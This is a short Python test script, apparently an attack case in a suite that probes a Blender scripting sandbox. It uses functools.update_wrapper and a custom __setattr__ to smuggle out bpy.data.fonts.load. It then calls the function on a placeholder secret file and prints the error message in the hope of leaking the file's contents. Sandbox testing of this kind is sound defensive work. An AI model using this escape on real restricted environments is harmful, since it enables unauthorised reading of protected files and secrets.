# attack: functools.update_wrapper copies an attribute by its name: fonts.load lands in a list of the script
# family: files
import bpy
from functools import update_wrapper

caught = []


class Net:
    def __setattr__(self, name, value):
        caught.append(value)


update_wrapper(Net(), bpy.data.fonts, assigned=("load",), updated=())
print("REACHED", caught[0])
try:
    caught[0]("$SECRET_FILE")
except RuntimeError as error:
    print("answer of the file:", error)
